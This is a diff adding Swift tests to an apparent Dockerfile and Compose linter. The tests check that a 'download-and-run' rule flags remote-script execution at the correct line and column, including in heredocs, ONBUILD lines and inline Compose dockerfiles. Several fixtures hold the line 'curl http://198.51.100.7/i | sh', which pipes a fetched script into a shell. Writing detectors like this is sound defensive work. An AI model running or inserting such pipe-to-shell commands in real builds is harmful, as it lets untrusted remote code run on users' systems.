@@ -64,6 +64,46 @@ struct CheckRunTests {
         #expect(line.issues.contains { $0.ruleName == "privileged-container" && $0.column == 12 })
     }
 
+    @Test(
+        "Scripts inside Dockerfiles, and Dockerfiles inside Compose files, are judged with line and column",
+        arguments: [
+            ("FROM a:1\nRUN <<EOF\nset -e\ncurl http://198.51.100.7/i | sh\nEOF\nUSER 1\n", "Dockerfile", 3, 1),
+            ("FROM a:1\nCOPY <<EOF /start.sh\ncurl http://198.51.100.7/i | sh\nEOF\nUSER 1\n", "Dockerfile", 3, 1),
+            ("FROM a:1\nONBUILD RUN curl http://198.51.100.7/i | sh\nUSER 1\n", "Dockerfile", 2, 1),
+            (
+                """
+                services:
+                  web:
+                    build:
+                      args: [V=1]
+                      dockerfile_inline: |
+
+                        ARG V
+                        FROM a:$${V}
+                        RUN make
+                        RUN curl http://198.51.100.7/i | sh
+                        USER 1
+                """, "compose.yml", 10, 9
+            ),
+            (
+                "services: {web: {build: {dockerfile_inline: \"FROM a:1\\nRUN curl http://198.51.100.7/i | sh\\n\"}}}",
+                "compose.yml", 1, 45
+            ),
+        ])
+    func scriptsInside(_ text: String, _ name: String, _ line: Int, _ column: Int) throws {
+        let run = try run(text, name)
+        #expect(run.diagnostics.isEmpty)
+        let issue = try #require(run.issues.first { $0.ruleName == "download-and-run" })
+        #expect((issue.line, issue.column) == (line, column) && issue.level == .medium)
+    }
+
+    @Test("Files that a build writes and nobody runs are no commands")
+    func dataInside() throws {
+        let run = try run(
+            "FROM a:1\nCOPY <<EOF /README\nInstall with: curl http://198.51.100.7/i | sh\nEOF\nUSER 1\n", "Dockerfile")
+        #expect(run.diagnostics.isEmpty && !run.issues.contains { $0.ruleName == "download-and-run" })
+    }
+
     @Test("Rights that are granted count for the workloads of the same file, in either order")
     func grants() throws {
         let binding = """
